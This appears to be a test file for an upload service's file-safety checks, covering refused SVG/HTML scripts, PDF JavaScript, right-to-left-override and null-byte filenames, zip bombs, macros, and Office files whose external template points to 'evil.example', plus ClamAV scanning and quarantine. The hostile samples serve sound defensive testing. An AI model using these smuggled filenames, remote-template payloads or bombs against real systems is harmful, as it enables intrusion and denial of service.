import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attachment, attachmentRoutes as routes } from '@yuanhang/contract';
import { type AttachmentsFixture, requirement, startAttachmentsFixture } from '../../../test/attachments-fixture';
import { type Clamd, knownVirus, startClamd } from '../../../test/clamd';
import { jpgBytes, pdfBytes, pngBytes, postFile, uploadFile } from '../../../test/factories/attachments';
import { lockedOfficeBytes, lyingBomb, officeBytes, word } from '../../../test/factories/office';
import { clientOf, send } from '../../../test/http';
import { clamdScanner } from '../../platform/scanner';
import { readSheet } from '../../platform/sheets';

const student = 'studentA'.padEnd(20, '0');
const megabyte = 1024 * 1024;
let owners = 0;
const newOwner = () => `studen${String(owners++).padStart(14, '0')}`;

/** Runs all three steps; returns the status of the first that refuses, otherwise of the last. */
async function attempt(fixture: AttachmentsFixture, fileName: string, bytes: Buffer) {
  const ownerId = newOwner();
  const body = {
    ownerType: 'application',
    ownerId,
    requirementKey: requirement.key,
    fileName,
    bytes: Math.max(1, bytes.length),
  };
  const begun = await send(fixture.url, 'POST', '/api/attachments', { token: student, body });
  if (begun.status !== 200) return { ...begun, ownerId };
  const { id, upload } = begun.body as { id: string; upload: Parameters<typeof postFile>[1] };
  const posted = await postFile(fixture.url, upload, bytes, fileName);
  if (!posted.ok) return { status: posted.status, body: await posted.json(), ownerId };
  return {
    ...(await send(fixture.url, 'POST', `/api/attachments/${id}/completion`, { token: student, body: {} })),
    ownerId,
  };
}

const rels = (type: string, mode: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x.dotm" ${mode}/></Relationships>`;
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const page = '<!doctype html><script>alert(1)</script>';

describe('an invalid file', () => {
  let fixture: AttachmentsFixture;
  beforeAll(async () => {
    fixture = await startAttachmentsFixture('disk');
  });
  afterAll(() => fixture.stop());

  it.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a picture that is a program', 'a.svg', () => Buffer.from(svg)],
    ['a page', 'a.html', () => Buffer.from(page)],
    ['a page under another name', 'a.pdf', () => Buffer.from(page)],
    ['a program with two endings', 'a.pdf.exe', () => pdfBytes()],
    ['a page with two endings', 'a.html.png', () => Buffer.from(svg)],
    ['an ending turned around', 'exe.fdp\u202e', () => pdfBytes()],
    ['a name that ends early', 'a.html\u0000.pdf', () => Buffer.from(page)],
    [
      'a PDF that is an archive too',
      'a.pdf',
      async () => Buffer.concat([pdfBytes(), await officeBytes({ 'A.class': 'x' })]),
    ],
    ['a PDF behind a page', 'a.pdf', () => Buffer.concat([Buffer.from('<html>'), pdfBytes()])],
    ['900 million pixels', 'a.png', () => pngBytes(30_000, 30_000)],
    ['an archive that says it is small', 'a.docx', () => lyingBomb(120)],
    ['a bomb in the open', 'a.docx', () => officeBytes({ ...word, 'word/x.xml': Buffer.alloc(60 * megabyte) })],
    ['a member between the members', 'a.docx', async () => hidden(await officeBytes(word))],
    [
      'a template from elsewhere',
      'a.docx',
      () => officeBytes({ ...word, 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'TargetMode="External"') }),
    ],
    [
      'an object from elsewhere',
      'a.docx',
      () => officeBytes({ ...word, 'word/_rels/document.xml.rels': rels('oleObject', "TargetMode='External'") }),
    ],
    ['macros', 'a.docx', () => officeBytes({ ...word, 'word/vbaProject.bin': 'x' })],
  ])('is refused: %s', async (_, name, bytes) => {
    const { status, ownerId } = await attempt(fixture, name, await bytes());
    expect([413, 415, 422]).toContain(status);
    expect((await fixture.attachments.listFor('application', [ownerId])).get(ownerId)).toBeUndefined();
  });

  it('accepts links in a document, a picture from a phone, and a form', async () => {
    const linked = { ...word, 'word/_rels/document.xml.rels': rels('hyperlink', 'TargetMode="External"') };
    for (const [name, bytes] of [
      ['a.docx', await officeBytes(linked)],
      ['照片 1.JPG', jpgBytes()],
      ['表.final.v2.pdf', pdfBytes()],
    ] as const)
      expect([name, (await attempt(fixture, name, bytes)).status]).toEqual([name, 200]);
  });

  it('names the reason for a file under a password, and for one that loads a template', async () => {
    const locked = await attempt(fixture, 'a.docx', lockedOfficeBytes());
    expect(locked).toMatchObject({ status: 422, body: { code: 'file_locked', message: '请去掉打开密码后再上传' } });
    const pdf = await attempt(fixture, 'a.pdf', readFileSync(join(__dirname, '../../../test/files/upload/locked.pdf')));
    expect(pdf).toMatchObject({ status: 422, body: { code: 'file_locked' } });
    const scripted = Buffer.from(
      pdfBytes().toString('latin1').replace('%%EOF', '9 0 obj <</S/J#61vaScript/JS(app.alert(1))>>\n%%EOF'),
      'latin1',
    );
    const refused = await attempt(fixture, 'a.pdf', scripted);
    expect(refused).toMatchObject({
      status: 422,
      body: { detail: 'runs_something', message: expect.stringContaining('脚本') },
    });
    const settings = { 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'TargetMode="External"') };
    const loading = await attempt(fixture, 'a.docx', await officeBytes({ ...word, ...settings }));
    expect(loading).toMatchObject({ status: 422, body: { detail: 'loads_elsewhere' } });
  });

  it('is refused at once, however long a search through it would take', async () => {
    const endless = { ...word, 'word/_rels/document.xml.rels': '<Relationship '.repeat(300_000) };
    const { status } = await attempt(fixture, 'a.docx', await officeBytes(endless));
    expect(status).toBe(422);
  });

  it('needs little memory, however large the file would unpack', async () => {
    const bomb = await lyingBomb(150);
    const sheet = await lyingBomb(150, 'xl/workbook.xml');
    global.gc?.();
    const before = process.memoryUsage().rss;
    for (let n = 0; n < 4; n += 1) expect((await attempt(fixture, 'a.docx', bomb)).status).toBe(422);
    await Promise.all(Array.from({ length: 4 }, () => attempt(fixture, 'a.docx', bomb)));
    const rows = readSheet({ fileName: 'a.xlsx', maxRows: 100, heads: [] }, sheet);
    await expect(rows).rejects.toMatchObject({ code: 'file_content_mismatch' });
    expect((process.memoryUsage().rss - before) / megabyte).toBeLessThan(200);
  });
});

/** Adds data that the directory does not list, where a reader that goes from header to header finds it. */
function hidden(zip: Buffer): Buffer {
  const start = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  const more = Buffer.from('PK\u0003\u0004 something that nobody listed');
  const altered = Buffer.concat([zip.subarray(0, start), more, zip.subarray(start)]);
  const end = altered.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  altered.writeUInt32LE(start + more.length, end + 16);
  return altered;
}

describe('a scanner', () => {
  let clamd: Clamd;
  beforeEach(async () => {
    clamd = await startClamd(2 * megabyte);
  });
  afterEach(() => clamd.stop());
  const infected = pdfBytes(knownVirus);

  it('scans every byte, over TCP and over a socket file', async () => {
    const large = Buffer.concat([pdfBytes(), Buffer.alloc(200_000, 7)]);
    for (const url of [clamd.tcp, clamd.unix]) {
      expect(await clamdScanner(url).scan(large)).toBe('clean');
      expect(await clamdScanner(url).scan(infected)).toBe('infected');
      expect(await clamdScanner(url).scan(Buffer.alloc(3 * megabyte))).toBe('unknown');
    }
    expect(clamd.seen[0]?.equals(large)).toBe(true);
  });

  it('reports an unknown result when it is unreachable', async () => {
    const { tcp } = clamd;
    await clamd.stop();
    expect(await clamdScanner(tcp).scan(infected)).toBe('unknown');
    expect(await clamdScanner('unix:/nowhere/clamd.ctl').scan(infected)).toBe('unknown');
    clamd = await startClamd();
  });

  it('rejects known viruses; while the scanner is unreachable, files are accepted but cannot be read', async () => {
    let url = clamd.tcp;
    const fixture = await startAttachmentsFixture('disk', { scan: (bytes) => clamdScanner(url).scan(bytes) });
    const call = clientOf(fixture.url, student);
    const link = (id: string) => send(fixture.url, 'GET', `/api/attachments/${id}/link?as=view`, { token: student });
    const listed = async (ownerId: string) =>
      (await fixture.attachments.listFor('application', [ownerId])).get(ownerId) ?? [];
    const upload = (ownerId: string, bytes: Buffer): Promise<Attachment> =>
      uploadFile(fixture.url, student, { ownerId, requirementKey: requirement.key, bytes });

    expect(await attempt(fixture, 'a.pdf', infected)).toMatchObject({ status: 422, body: { detail: 'infected' } });
    const good = await upload(newOwner(), pdfBytes());
    expect((await link(good.id)).status).toBe(200);

    url = 'tcp://127.0.0.1:9';
    const [mine, bad] = [newOwner(), newOwner()];
    const waiting = await upload(mine, pdfBytes('等待'));
    const worse = await upload(bad, infected);
    for (const { id } of [waiting, worse])
      expect(await link(id)).toMatchObject({ status: 409, body: { detail: 'quarantined' } });
    expect(await listed(mine)).toHaveLength(1);
    await fixture.attachments.sweep.run(fixture.clock.now());
    expect((await link(waiting.id)).status).toBe(409);

    url = clamd.unix;
    await fixture.attachments.sweep.run(fixture.clock.now());
    expect((await link(waiting.id)).status).toBe(200);
    expect((await link(worse.id)).status).toBe(404);
    expect(await listed(bad)).toEqual([]);
    expect((await call(routes.readLink, { params: { id: waiting.id }, query: { as: 'download' } })).url).toContain(
      '/api/files/',
    );
    await fixture.stop();
  });
});
